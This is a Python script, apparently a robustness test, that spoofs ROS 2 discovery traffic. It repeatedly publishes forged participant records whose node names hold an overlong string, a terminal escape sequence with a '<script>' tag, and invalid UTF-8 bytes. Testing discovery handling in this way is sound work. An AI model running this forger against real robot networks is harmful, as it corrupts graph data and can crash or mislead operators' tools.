"""Says through DDS that participants have nodes whose names are no UTF-8.

Must: forged-graph.
"""

import time

import rclpy
from _rmw import publisher
from rclpy.serialization import serialize_message
from rmw_dds_common.msg import Gid, NodeEntitiesInfo, ParticipantEntitiesInfo

rclpy.init()
node = rclpy.create_node("forger")
publish = publisher(node, b"ros_discovery_info", "rmw_dds_common", "ParticipantEntitiesInfo")
number = 0
while True:
    number += 1
    gid = Gid()
    gid.data = [0] * 15 + [number % 50 + 1]
    info = ParticipantEntitiesInfo(gid=gid)
    for name in ("a" * 250, "\x1b[2J<script>", "QQQQ"):
        info.node_entities_info_seq.append(NodeEntitiesInfo(node_namespace="/", node_name=name))
    if publish(serialize_message(info).replace(b"QQQQ", b"\xff\xfe\xfd\xfc")) != 0:
        print("not published", flush=True)
    time.sleep(0.02)
